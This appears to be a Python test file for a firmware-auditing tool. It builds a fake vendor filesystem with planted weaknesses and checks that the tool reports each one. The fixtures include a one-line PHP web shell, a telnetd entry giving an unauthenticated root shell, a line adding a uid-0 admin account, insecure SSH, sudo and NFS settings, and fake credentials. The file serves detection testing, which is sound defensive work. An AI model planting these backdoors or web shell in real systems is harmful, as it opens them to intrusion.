#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""A vendor's tree with what firmwalker, EMBA and gitleaks look for, true and false: every true thing is a row, no false one is.

    test_peers.py ASSAY
"""
import os
import pathlib
import sqlite3
import subprocess
import sys
import tempfile
import unittest

ASSAY = os.path.abspath(sys.argv.pop(1))
HASH = "$1$abcdefgh$irWbblnpmw.5z7wgBnprh0"
AWS, EXAMPLE = "AKIA" + "Y3FDLQ7NTRKVOZ5W", "AKIA" + "IOSFODNN7EXAMPLE"
TREE = {
    "etc/passwd": f"root:{HASH}:0:0:root:/root:/bin/sh\nsupport:x:0:0::/:/bin/sh\nnobody:*:65534:65534::/:/bin/false\n",
    "etc/inittab": "::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -l /bin/sh\n",
    "etc/init.d/rcS": f"#!/bin/sh\necho 'admin:{HASH}:0:0::/:/bin/sh' >> /etc/passwd\n"
                      "curl -u admin:Hj82kslQ -H \"Authorization: Bearer 9f8a7s6d5f4g\" https://api.vendor.net/x\n"
                      "curl -u \"$USER:$PASS\" https://api.vendor.net/z\n",
    "usr/share/doc/x/passwd.example": f"root:{HASH}:0:0::/:/bin/sh\n",
    "etc/pam.d/passwd": "password required pam_unix.so nullok\n# auth required pam_permit.so\n",
    "etc/nsswitch.conf": "passwd: files nis\n",
    "root/.rhosts": "10.0.0.5 root\n",
    "etc/exports": "# /srv *(rw)\n/mnt/data *(rw,no_root_squash)\n",
    "etc/fstab": "//10.1.1.2/share /mnt/nas cifs username=cam,password=Wq83kLmz 0 0\n",
    "etc/resolv.conf": "nameserver 8.8.8.8\n# nameserver 9.9.9.9\n",
    "etc/ssh/sshd_config": "#PermitRootLogin no\nPermitRootLogin yes\n",
    "root/.ssh/config": "Host *\n StrictHostKeyChecking no\n",
    "etc/sudoers": "www ALL=(ALL) NOPASSWD: ALL\n",
    "etc/crontabs/root": "*/5 * * * * wget http://update.vendor.net/fw.bin -O /tmp/f\n",
    "etc/aws.conf": f"aws_access_key_id = {AWS}\n",
    "usr/share/doc/x/aws.txt": f"aws_access_key_id = {EXAMPLE}\n",
    "etc/app.conf": 'api_key = "f3a9c17be24d58069b1c7de3f0a2846d"\nkey_file = "/etc/ssl/cam.key"\npassword = "$PASSWORD"\n'
                    'keyboard = "de-latin1-nodeadkeys"\ntoken_endpoint = "https://auth.vendor.net/t0k3n"\nversion=1.2.3.4\n',
    "root/.git-credentials": "https://builder:Xk29sLqPz7Rt@git.vendor.net\n",
    "root/.bash_history": "mysql -u root -pS3cretPa55 db\n",
    "etc/notes.key": "not a key\n",
    "www/x.php": "<?php system($_GET['c']); ?>\n",
    "www/ok.php": "<?php system('uptime'); ?>\n",
    "www/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>\n',
}
TRUTH = [
    ("SELECT user, uid, state FROM account",
     [("nobody", 65534, "locked"), ("root", 0, "set"), ("support", 0, "shadowed")]),
    ("SELECT b.path, s.value FROM secret s JOIN blob b ON b.id = s.blob_id WHERE s.harmless = ''",
     [("/etc/app.conf", "f3a9c17be24d58069b1c7de3f0a2846d"), ("/etc/aws.conf", AWS), ("/etc/fstab", "Wq83kLmz"),
      ("/etc/init.d/rcS", HASH), ("/etc/init.d/rcS", "9f8a7s6d5f4g"), ("/etc/init.d/rcS", "Hj82kslQ"),
      ("/root/.bash_history", "S3cretPa55"), ("/root/.git-credentials", "Xk29sLqPz7Rt")]),
    ("SELECT program, key, value FROM setting WHERE origin = 'file'",
     [("crond", "*/5 * * * *", "wget http://update.vendor.net/fw.bin -O /tmp/f"), ("fstab", "/mnt/nas", "cifs"),
      ("nfsd", "/mnt/data", "*(rw,no_root_squash)"),
      ("nss", "passwd", "files nis"), ("pam", "password", "required pam_unix.so nullok"), ("rshd", "10.0.0.5", "root"),
      ("ssh", "StrictHostKeyChecking", "no"), ("sshd", "PermitRootLogin", "yes"), ("sudo", "www", "ALL=(ALL) NOPASSWD: ALL")]),
    ("SELECT DISTINCT host FROM endpoint WHERE noise IS NULL",
     [("10.0.0.5",), ("10.1.1.2",), ("8.8.8.8",), ("api.vendor.net",), ("auth.vendor.net",), ("git.vendor.net",),
      ("update.vendor.net",)]),
    ("SELECT b.path, w.kind FROM weakness w JOIN blob b ON b.id = w.blob_id WHERE b.path LIKE '/www/%'",
     [("/www/x.php", "command-injection")]),
    ("SELECT b.path FROM leftover l JOIN blob b ON b.id = l.blob_id",
     [("/root/.bash_history",), ("/root/.git-credentials",)]),
    ("SELECT count(*) FROM private_key", [(0,)]),
    ("SELECT command FROM startup WHERE mechanism = 'inittab' AND program = '/usr/sbin/telnetd'",
     [("/usr/sbin/telnetd -l /bin/sh",)]),
]


class Peers(unittest.TestCase):
    def test_tree(self):
        with tempfile.TemporaryDirectory(prefix="assay-test-") as folder:
            root = pathlib.Path(folder) / "root"
            for name, text in TREE.items():
                path = root / name
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text)
            p = subprocess.run([ASSAY, str(root), "--quiet", "-o", "x.assay"], cwd=folder, capture_output=True, timeout=300)
            self.assertIn(p.returncode, (0, 1), p.stderr)
            db = sqlite3.connect(pathlib.Path(folder) / "x.assay")
            for query, rows in TRUTH:
                with self.subTest(query):
                    self.assertEqual(sorted(db.execute(query).fetchall()), sorted(rows))
            db.close()


if __name__ == "__main__":
    unittest.main()
